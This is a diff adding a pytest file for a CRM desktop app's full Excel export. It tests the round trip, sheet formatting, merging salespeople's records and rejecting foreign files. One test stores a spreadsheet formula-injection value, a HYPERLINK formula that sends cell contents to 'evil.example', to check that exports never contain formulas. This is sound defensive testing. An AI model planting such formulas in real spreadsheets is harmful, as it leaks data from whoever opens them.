@@ -1,0 +1,173 @@
+"""The full export, its lossless round trip, and merging several salespeople's files."""
+
+from __future__ import annotations
+
+import zipfile
+from datetime import datetime
+from pathlib import Path
+
+import pytest
+from openpyxl import load_workbook
+
+from desktop.models import Account, Contact
+from desktop.services.database import Database, open_database
+from desktop.services.excel.full_export import MARKER, export_everything
+from desktop.services.excel.full_import import read_full_export
+from desktop.services.excel.import_service import ImportService
+
+NOW = datetime(2026, 11, 23, 10, 0)
+
+
+def _export(db: Database, path: Path) -> Path:
+    with db.read() as s:
+        export_everything(s.connection(), path, NOW)
+    return path
+
+
+def _cells(path: Path) -> dict[str, list[tuple]]:
+    book = load_workbook(path, read_only=True)
+    try:
+        return {
+            name: list(book[name].iter_rows(values_only=True))
+            for name in book.sheetnames
+            if name != "About"
+        }
+    finally:
+        book.close()
+
+
+def _import_full(db: Database, clock, path: Path, merge: bool | None = None):
+    service = ImportService(db, clock)
+    export = read_full_export(path)
+    candidates = service.candidates(export)
+    merges = {c.incoming for c in candidates} if merge else set()
+    return candidates, service.run_full(export, merges, dry_run=False)
+
+
+def test_round_trip_gives_identical_cells(demo_db: Database, tmp_path: Path, clock) -> None:
+    first = _export(demo_db, tmp_path / "first.xlsx")
+    target = open_database(tmp_path / "empty.sqlite").db
+    try:
+        candidates, report = _import_full(target, clock, first)
+        assert candidates == [] and report.errors == 0
+        second = _export(target, tmp_path / "second.xlsx")
+    finally:
+        target.close()
+    before, after = _cells(first), _cells(second)
+    assert before.keys() == after.keys()
+    for sheet in before:
+        assert after[sheet] == before[sheet], sheet
+    assert len(before["contact"]) > 60
+
+
+def test_the_export_is_a_proper_spreadsheet(demo_db: Database, tmp_path: Path) -> None:
+    path = _export(demo_db, tmp_path / "all.xlsx")
+    book = load_workbook(path)  # normal mode: sheet properties are readable
+    about = book["About"]
+    assert about["A1"].value == MARKER
+    assert "personal data" in about["B2"].value
+    assert book.sheetnames[0] == "About" and "contact" in book.sheetnames
+    contracts = book["contract"]
+    headers = [c.value for c in contracts[1]]
+    assert headers[:3] == ["id", "owner", "account"]
+    assert contracts.freeze_panes == "A2"
+    assert contracts.auto_filter.ref.startswith("A1:")
+    amount = contracts.cell(row=2, column=headers.index("amount") + 1)
+    signed = contracts.cell(row=2, column=headers.index("signed_on") + 1)
+    assert isinstance(amount.value, int | float) and amount.number_format == "#,##0.00"
+    assert isinstance(signed.value, datetime)
+    lists = [v.formula1 for v in book["contact"].data_validations.dataValidation]
+    assert any("coach,supporter,neutral,opponent,blocker" in f for f in lists)
+
+
+def test_text_is_never_exported_as_a_formula(db: Database, tmp_path: Path, clock) -> None:
+    nasty = '=HYPERLINK("http://evil.example/?x="&A2,"点击查看")'
+    with db.session() as s:
+        s.add(Account(name=nasty, notes="@SUM(1)", tax_id="91320100MA1XYZ1234"))
+    path = _export(db, tmp_path / "nasty.xlsx")
+    with zipfile.ZipFile(path) as archive:
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert b"<f>" not in archive.read(name), name
+    target = open_database(tmp_path / "back.sqlite").db
+    try:
+        _import_full(target, clock, path)
+        with target.read() as s:
+            account = s.query(Account).one()
+            assert (account.name, account.notes) == (nasty, "@SUM(1)")
+    finally:
+        target.close()
+
+
+def _salesperson(tmp_path: Path, clock, owner: str, people: list[str]) -> Path:
+    db = open_database(tmp_path / f"{owner}.sqlite").db
+    db.set_default_owner(owner)
+    with db.session() as s:
+        account = Account(name="彭城地铁集团")
+        s.add(account)
+        s.flush()
+        for name in people:
+            s.add(Contact(account_id=account.id, name=name, title=f"{owner}记的职务"))
+    path = _export(db, tmp_path / f"{owner}.xlsx")
+    db.close()
+    return path
+
+
+@pytest.mark.parametrize("merge", [True, False])
+def test_merging_two_salespeoples_files(tmp_path: Path, clock, merge: bool) -> None:
+    zhang = _salesperson(tmp_path, clock, "张三", ["白志刚", "刘工"])
+    li = _salesperson(tmp_path, clock, "李四", ["白志刚", "王工"])
+    manager = open_database(tmp_path / "manager.sqlite").db
+    try:
+        assert _import_full(manager, clock, zhang)[0] == []
+        candidates, _ = _import_full(manager, clock, li, merge=merge)
+        assert sorted(
+            (c.table, c.name, c.incoming_owner, c.existing_owner) for c in candidates
+        ) == [
+            ("account", "彭城地铁集团", "李四", "张三"),
+            ("contact", "白志刚", "李四", "张三"),
+        ]
+        with manager.read() as s:
+            accounts = s.query(Account).all()
+            people = sorted((c.name, c.owner, c.account_id) for c in s.query(Contact))
+        if merge:
+            (account,) = accounts
+            assert people == [
+                ("刘工", "张三", account.id),
+                ("王工", "李四", account.id),
+                ("白志刚", "张三", account.id),
+            ]
+            # Next week's file from the same colleague merges the same way, unasked.
+            again, report = _import_full(manager, clock, li)
+            assert again == [] and report.created == {}
+            with manager.read() as s:
+                assert s.query(Contact).count() == 3
+        else:
+            assert len(accounts) == 2 and len(people) == 4
+            assert {owner for _n, owner, _a in people} == {"张三", "李四"}
+    finally:
+        manager.close()
+
+
+def test_a_later_edit_wins_and_an_older_one_does_not(tmp_path: Path, clock) -> None:
+    path = _salesperson(tmp_path, clock, "张三", ["白志刚"])
+    manager = open_database(tmp_path / "manager.sqlite").db
+    try:
+        _import_full(manager, clock, path)
+        with manager.session() as s:
+            s.query(Contact).one().title = "经理改过的职务"
+        _candidates, report = _import_full(manager, clock, path)  # the older version again
+        assert report.updated == {} and report.unchanged["contact"] == 1
+        with manager.read() as s:
+            assert s.query(Contact).one().title == "经理改过的职务"
+    finally:
+        manager.close()
+
+
+def test_a_sheet_that_is_not_a_full_export_is_refused(tmp_path: Path) -> None:
+    from desktop.services.messages import UserError
+
+    with pytest.raises(UserError, match="not a full export"):
+        read_full_export(
+            Path(__file__).resolve().parents[2] / "fixtures" / "excel" / "crm_export.xlsx"
+        )
